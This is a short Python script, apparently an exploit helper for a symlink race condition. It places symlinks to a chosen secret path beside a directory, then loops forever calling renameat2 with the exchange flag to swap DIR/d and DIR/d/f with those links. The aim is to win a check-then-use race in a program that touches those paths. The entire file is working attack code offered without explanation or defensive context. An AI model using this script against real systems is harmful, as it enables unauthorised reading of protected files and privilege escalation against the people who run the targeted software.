#!/usr/bin/env python3
"""usage: swap.py DIR SECRET
Exchanges DIR/d for a link to SECRET, and DIR/d/f for a link to SECRET/f, until it is ended."""
import ctypes
import os
import sys

here, secret = sys.argv[1:3]
libc = ctypes.CDLL(None, use_errno=True)
EXCHANGE = 2


def exchange(a, b):
    libc.renameat2(-100, a.encode(), -100, b.encode(), EXCHANGE)


beside = here + ".beside"
os.symlink(secret, beside)
os.symlink(secret + "/f", beside + ".f")
while True:
    exchange(here + "/d", beside)
    exchange(here + "/d", beside)
    exchange(here + "/d/f", beside + ".f")
    exchange(here + "/d/f", beside + ".f")
